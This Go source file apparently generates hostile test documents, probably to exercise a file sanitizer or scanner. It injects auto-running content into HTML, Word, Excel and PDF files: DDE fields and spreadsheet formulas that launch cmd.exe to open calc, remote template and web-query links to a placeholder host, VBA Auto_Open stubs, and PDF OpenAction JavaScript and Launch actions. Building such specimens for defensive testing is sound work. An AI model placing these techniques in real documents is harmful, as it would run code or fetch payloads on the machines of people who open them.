package hostile

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"

	"ogi/generator/internal/specimen"
)

// carry puts into a file what only its kind has: markup, scripts, formulas,
// links and parts that would run or load.
func (a *maker) carry(b []byte, k specimen.Kind, id int) []byte {
	switch k {
	case specimen.HTML, specimen.CMS:
		return a.markup(b, id)
	case specimen.DOCX:
		return a.office(b, id, wordParts, map[string]string{"<w:sectPr/>": wordBody + "<w:sectPr/>"})
	case specimen.XLSX:
		return a.office(b, id, sheetParts, map[string]string{"</sheetData>": `<row r="999"><c r="A999"><f>HYPERLINK("{load}","x")</f><v>1</v></c><c r="B999"><f>cmd|'/c calc'!A1</f></c></row></sheetData>`})
	case specimen.PDF:
		return a.pdf(b, id)
	}
	return b
}

// markup puts each word as it is between the blocks of a page.
func (a *maker) markup(b []byte, id int) []byte {
	parts := strings.SplitAfter(string(b), "</p>\n")
	for i := range parts {
		if w := a.word(id); !strings.Contains(w, "plaintext") && !strings.HasPrefix(w, "<!--") {
			parts[i] += w
		}
	}
	return []byte(strings.Replace(strings.Join(parts, ""), "<head>", a.fill(`<head><script>{run}</script><base href="{host}/"><meta http-equiv=refresh content="9;url={load}">`, id), 1))
}

const wordBody = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>` +
	`<w:hyperlink r:id="rId66" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:r><w:t>点击</w:t></w:r></w:hyperlink></w:p>` +
	`<w:altChunk r:id="rId67" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>`

const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId66" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:{short}" TargetMode="External"/>` +
	`<Relationship Id="rId67" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.html"/><Relationship Id="rId68" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{load}" TargetMode="External"/></Relationships>`

var wordParts = map[string]string{
	"word/_rels/document.xml.rels": relations,
	"word/afchunk.html":            "<html>" + page,
	"word/vbaProject.bin":          "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Auto_Open",
}

var sheetParts = map[string]string{
	"xl/vbaProject.bin":               "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Auto_Open",
	"xl/externalLinks/links.xml.rels": relations,
	"xl/webqueries.xml":               `<x url="{load}"/>`,
}

// office is an office file with more parts, and with texts changed.
func (a *maker) office(b []byte, id int, parts, change map[string]string) []byte {
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		panic(err)
	}
	all := map[string]string{}
	var names []string
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			panic(err)
		}
		t, err := io.ReadAll(r)
		if err != nil {
			panic(err)
		}
		s := string(t)
		for from, to := range change {
			s = strings.ReplaceAll(s, from, a.fill(to, id))
		}
		all[f.Name] = s
		names = append(names, f.Name)
	}
	for _, name := range sorted(parts) {
		if _, have := all[name]; !have {
			names = append(names, name)
		}
		all[name] = a.fill(parts[name], id)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, name := range names {
		p, err := w.Create(name)
		if err == nil {
			_, err = io.WriteString(p, all[name])
		}
		if err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// pdf gives a PDF what acts when it is opened.
func (a *maker) pdf(b []byte, id int) []byte {
	js := a.fill([]string{"app.alert(1);app.launchURL('{load}')", "this.submitForm('{load}')", "this.getURL('{load}');app.alert(1)"}[id%3], id)
	old := bytes.LastIndex(b, []byte("startxref\n")) + len("startxref\n")
	prev, _, _ := strings.Cut(string(b[old:]), "\n")
	// The catalogue once more, behind the end.
	at := len(b)
	tail := "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (" + strings.NewReplacer("(", `\(`, ")", `\)`).Replace(js) + ") >>" +
		" /AA << /WC << /S /Launch /F (cmd.exe) >> /DS << /S /URI /URI (javascript:x) >> >> >>\nendobj\n"
	return fmt.Appendf(b, "%sxref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 2 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n", tail, at, prev, at+len(tail))
}

func sorted(m map[string]string) []string { return slices.Sorted(maps.Keys(m)) }
